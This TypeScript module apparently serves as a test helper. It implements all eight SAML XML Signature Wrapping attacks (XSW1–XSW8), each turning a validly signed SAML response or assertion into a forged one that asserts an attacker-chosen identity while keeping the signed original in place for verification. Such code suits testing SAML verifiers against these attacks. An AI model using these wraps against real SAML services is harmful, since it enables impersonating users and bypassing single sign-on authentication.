/**
 * The eight ways of wrapping a signed message of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., USENIX
 * Security 2012), with the numbers that SAML Raider gives them. Each puts an assertion about `evil` where software may read
 * it, and keeps the signed one where software may verify it.
 */
export type Wrap = (signed: string, evil: string) => string;

/** Those of a signed response. */
export const wrapsOfResponses: Readonly<Record<string, Wrap>> = {
  'XSW1, the signed response within the signature of a forged one': (signed, evil) => {
    const signature = signatureOf(signed);
    const original = signed.replace(signature, '');
    const holding = signature.replace('</ds:Signature>', `${original}</ds:Signature>`);
    return forged(signed, evil).replace(signature, holding);
  },
  'XSW2, the signed response before its signature in a forged one': (signed, evil) => {
    const signature = signatureOf(signed);
    return forged(signed, evil).replace(signature, `${signed.replace(signature, '')}${signature}`);
  },
};

/** Those of a signed assertion. */
export const wrapsOfAssertions: Readonly<Record<string, Wrap>> = {
  'XSW3, a forged assertion before the signed one': (signed, evil) => {
    const original = assertionOf(signed);
    return signed.replace(original, `${unsigned(original, evil)}${original}`);
  },
  'XSW4, the signed assertion within a forged one': (signed, evil) => {
    const original = assertionOf(signed);
    const around = unsigned(original, evil).replace('</saml:Assertion>', `${original}</saml:Assertion>`);
    return signed.replace(original, around);
  },
  'XSW5, the signature in a forged assertion, the signed one after it': (signed, evil) => {
    const original = assertionOf(signed);
    const bare = original.replace(signatureOf(original), '');
    return signed.replace(original, `${renamed(original, evil)}${bare}`);
  },
  'XSW6, the signed assertion within the signature of a forged one': (signed, evil) => {
    const original = assertionOf(signed);
    const [signature, bare] = [signatureOf(original), original.replace(signatureOf(original), '')];
    const holding = signature.replace('</ds:Signature>', `${bare}</ds:Signature>`);
    return signed.replace(original, renamed(original, evil).replace(signature, holding));
  },
  'XSW7, a forged assertion of the same id in extensions': (signed, evil) => {
    const original = assertionOf(signed);
    const copy = original.replace(signatureOf(original), '').replace('ann@example.com', evil);
    return signed.replace(original, `<samlp:Extensions>${copy}</samlp:Extensions>${original}`);
  },
  'XSW8, the signed assertion in an object of the signature of a forged one': (signed, evil) => {
    const original = assertionOf(signed);
    const [signature, bare] = [signatureOf(original), original.replace(signatureOf(original), '')];
    const holding = signature.replace('</ds:Signature>', `<ds:Object>${bare}</ds:Object></ds:Signature>`);
    const same = original.replace('ann@example.com', evil).replace(signature, holding);
    return signed.replace(original, same);
  },
};

export function assertionOf(xml: string): string {
  return /<saml:Assertion .*<\/saml:Assertion>/s.exec(xml)?.[0] ?? '';
}

export function signatureOf(xml: string): string {
  return /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)?.[0] ?? '';
}

function unsigned(assertion: string, evil: string): string {
  return renamed(assertion.replace(signatureOf(assertion), ''), evil);
}

/** Of somebody else, under another id. */
function renamed(assertion: string, evil: string): string {
  return assertion.replace('ann@example.com', evil).replace('ID="_assertion"', 'ID="_evil"');
}

/** A response about somebody else with the signature of the other one. */
function forged(signed: string, evil: string): string {
  return signed
    .replace('ann@example.com', evil)
    .replace('ID="_response"', 'ID="_evil"')
    .replace('ID="_assertion"', 'ID="_evil-assertion"');
}
